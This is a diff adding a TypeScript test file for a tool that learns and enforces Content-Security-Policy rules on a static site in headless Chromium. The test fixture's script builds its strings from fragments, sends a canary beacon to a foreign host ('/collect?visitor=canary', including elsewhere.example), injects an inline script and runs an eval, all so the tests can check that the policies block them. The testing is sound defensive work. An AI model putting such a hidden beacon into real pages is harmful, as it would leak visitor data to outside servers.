@@ -1,0 +1,166 @@
+import assert from "node:assert/strict";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { test } from "node:test";
+import type { TestContext } from "node:test";
+import { chromium } from "playwright-core";
+import { parseLearned, writeLearned } from "../src/harden/index.ts";
+import { hardenFolder, learnFolder } from "../src/harden/node.ts";
+import { requires } from "./requires.ts";
+import { answersHardened, offlineChromium, serveAnswers } from "./support/compare-pages.ts";
+
+const { path: executablePath, skip } = requires("chromium");
+
+function writeSite(
+  context: TestContext,
+  files: Readonly<Record<string, string>>,
+): { folder: string; root: string } {
+  const root = mkdtempSync(join(tmpdir(), "curtainwall-learn-"));
+  context.after(() => rmSync(root, { recursive: true, force: true }));
+  const folder = join(root, "site");
+  for (const [name, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(folder, name)), { recursive: true });
+    writeFileSync(join(folder, name), text);
+  }
+  return { folder, root };
+}
+
+const html = (body: string): string =>
+  `<!doctype html><html lang="en"><title>Harbour office</title><body>${body}</body></html>`;
+
+/** A site whose scripts hide what they do, and somebody else's server that must not hear of it. */
+const siteOf = (elsewhere: string): Record<string, string> => ({
+  "index.html": html(`<h1>Boats</h1><p id="word">…</p><button>More</button>
+<form action="/search.html"><input name="q"></form><a href="/quay.html">quay</a><script src="/site.js"></script>`),
+  "site.js": `const hidden = (...parts) => parts.join("");
+fetch(hidden("/da", "ta.json")).then((answer) => answer.json()).then(({ word }) => { document.getElementById("word").textContent = word; });
+const style = document.createElement("style");
+style.textContent = hidden("#word { color", ": rgb(1, 2, 3) }");
+document.head.append(style);
+const brief = document.createElement("style");
+brief.textContent = hidden("h1 { letter-", "spacing: 1px }");
+document.head.append(brief);
+brief.remove();
+document.querySelector("button").onclick = () => {
+  fetch(hidden("${elsewhere}", "/collect?visitor=canary"), { mode: "no-cors" }).catch(() => {});
+  fetch(hidden("/or", "der"), { method: "POST", body: "1" });
+  const late = document.createElement("script");
+  late.textContent = hidden("document.documentElement.dataset", ".late = 1");
+  document.body.append(late);
+  try { hidden.constructor(hidden("return ", "1"))(); } catch {}
+};`,
+  "data.json": '{"word":"afloat"}',
+  "search.html": html(`<p id="found">nothing</p><script src="/search.js"></script>`),
+  "search.js": `const word = new URLSearchParams(location.search).get("q");
+if (word) fetch(["/ind", "ex.json"].join("")).then((answer) => answer.text()).then((text) => { document.getElementById("found").textContent = text; });`,
+  "index.json": '"Harbour"',
+  "quay.html": html("<p>no script here</p>"),
+});
+
+test(
+  "what a site does is learned, nothing leaves the machine, and under the learned policies it still works",
+  { skip, timeout: 120_000 },
+  async (context) => {
+    const heard: string[] = [];
+    const other = createServer((request, response) => {
+      heard.push(request.url ?? "");
+      response.end();
+    });
+    await new Promise<void>((ready) => void other.listen(0, "127.0.0.1", ready));
+    context.after(() => other.close());
+    const elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
+    const { folder, root } = writeSite(context, siteOf(elsewhere));
+
+    const learned = await learnFolder({ folder, executablePath });
+    assert.deepEqual(heard, []);
+    assert.equal(learned.visited, 3);
+    assert.deepEqual(learned.failed, []);
+    const allowOf = (page: string) => learned.classes.find(({ pages }) => pages.includes(page))?.allow;
+    assert.deepEqual(allowOf("/quay.html"), {});
+    // Only an address with a word shows that the search connects.
+    assert.deepEqual(allowOf("/search.html"), { "connect-src": ["'self'"] });
+    assert.deepEqual(allowOf("/index.html")?.["connect-src"], ["'self'"]);
+    assert.equal(allowOf("/index.html")?.["style-src"]?.length, 2);
+    assert.deepEqual(
+      learned.findings.map(({ directive, blocked }) => `${directive} ${blocked}`),
+      [`connect-src ${elsewhere}/collect`, "script-src eval", "script-src-elem inline"],
+    );
+
+    const again = await learnFolder({ folder, executablePath });
+    assert.equal(writeLearned(again), writeLearned(learned));
+
+    const blobs = join(root, "blobs");
+    const hardened = await hardenFolder({ folder, blobs, learned: parseLearned(writeLearned(learned)) });
+    assert.deepEqual(Object.keys(hardened.report.weaknesses), []);
+    const served = await serveAnswers(answersHardened(hardened.files, blobs));
+    context.after(() => served.close());
+    const browser = await chromium.launch({ executablePath, args: [...offlineChromium] });
+    context.after(() => browser.close());
+    const page = await browser.newPage();
+    await page.goto(`${served.origin}/`, { waitUntil: "networkidle" });
+    assert.equal(await page.textContent("#word"), "afloat");
+    assert.equal(
+      await page.evaluate("getComputedStyle(document.getElementById('word')).color"),
+      "rgb(1, 2, 3)",
+    );
+    await page.click("button");
+    assert.equal(await page.evaluate("document.documentElement.dataset.late"), undefined);
+    assert.deepEqual(heard, []);
+    await page.goto(`${served.origin}/search.html?q=boats`, { waitUntil: "networkidle" });
+    assert.equal(await page.textContent("#found"), '"Harbour"');
+  },
+);
+
+test(
+  "pages beyond the bound are not learned, and stay as open as they were",
+  { skip, timeout: 60_000 },
+  async (context) => {
+    const { folder, root } = writeSite(context, siteOf("https://elsewhere.example"));
+    const learned = await learnFolder({ folder, executablePath, maxPages: 1 });
+    assert.deepEqual(
+      [learned.pages, learned.classes.flatMap(({ pages }) => pages)],
+      [3, ["/index.html", "/search.html"]],
+    );
+    const before = await hardenFolder({ folder, blobs: join(root, "before") });
+    const { pages, others } = parseLearned(writeLearned(learned));
+    assert.equal(others, undefined);
+    const partly = new Map([...pages].filter(([page]) => page !== "/search.html"));
+    const after = await hardenFolder({ folder, blobs: join(root, "after"), learned: { pages: partly } });
+    assert.equal(before.report.weaknesses["runtime-connections"]?.pages, 2);
+    assert.equal(after.report.weaknesses["runtime-connections"]?.pages, 1);
+  },
+);
+
+test(
+  "a visitor's own actions are learned too, and a page that fails is told and not learned",
+  { skip, timeout: 60_000 },
+  async (context) => {
+    const { folder } = writeSite(context, {
+      "index.html": html(
+        `<div id="far">far</div><script>document.getElementById("far").onclick = () => { fetch(["/fa", "r.json"].join("")); };</script>`,
+      ),
+      "broken.html": html("<p>broken</p>"),
+      "far.json": "1",
+    });
+    const learned = await learnFolder({
+      folder,
+      executablePath,
+      act: async ({ page, path }) => {
+        if (path === "/broken.html") throw new Error("the visitor stumbles");
+        await page.click("#far");
+      },
+    });
+    assert.deepEqual(learned.classes, [{ pages: ["/index.html"], allow: { "connect-src": ["'self'"] } }]);
+    assert.deepEqual(learned.failed, [{ page: "/broken.html", reason: "the visitor stumbles" }]);
+  },
+);
+
+test("a browser that does not start is an error that says so", async (context) => {
+  const { folder } = writeSite(context, { "index.html": html("<p>x</p>") });
+  await assert.rejects(learnFolder({ folder, executablePath: join(folder, "none") }), {
+    code: "HARDEN_BROWSER_MISSING",
+  });
+});
